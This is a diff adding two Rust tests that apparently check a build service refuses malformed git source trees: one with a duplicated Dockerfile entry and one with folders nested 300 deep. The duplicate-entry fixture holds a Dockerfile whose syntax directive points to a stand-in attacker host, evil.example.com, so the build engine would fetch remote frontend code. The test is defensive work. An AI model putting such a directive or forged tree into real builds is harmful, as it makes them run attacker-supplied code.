@@ -203,3 +203,29 @@ async fn names_that_lead_out_of_the_context_are_refused() {
         assert!(matches!(error, SourceError::BadName { .. }), "{error}");
     }
 }
+
+/// An engine would take the last one, whatever BuildGrid has read.
+#[tokio::test]
+async fn a_name_that_stands_twice_in_its_folder_is_refused() {
+    let server = git_server().await;
+    let repository = server.empty("x");
+    let (plain, other) = ("FROM scratch\n", "# syntax=evil.example.com/front/end\nFROM scratch\n");
+    forge(&repository, &[("100644", b"Dockerfile", plain), ("100644", b"Dockerfile", other)]);
+    let error = refused(&repository, "", "Dockerfile").await;
+    let SourceError::BadName { path, reason } = &error else { panic!("{error}") };
+    assert!(path == "Dockerfile" && reason.contains("stands twice"), "{error}");
+}
+
+#[tokio::test]
+async fn folders_that_are_nested_too_deep_are_refused() {
+    let server = git_server().await;
+    let repository = server.empty("x");
+    repository.write("Dockerfile", "FROM scratch\n");
+    repository.write(&format!("{}file", "d/".repeat(300)), "deep");
+    repository.commit("Dig");
+    let error = refused(&repository, "", "Dockerfile").await;
+    assert!(matches!(&error, SourceError::BadName { reason, .. } if reason.contains("256 deep")), "{error}");
+    repository.write(".dockerignore", "d\n");
+    repository.commit("Leave it out");
+    tar_of(&repository, "").await.unwrap();
+}
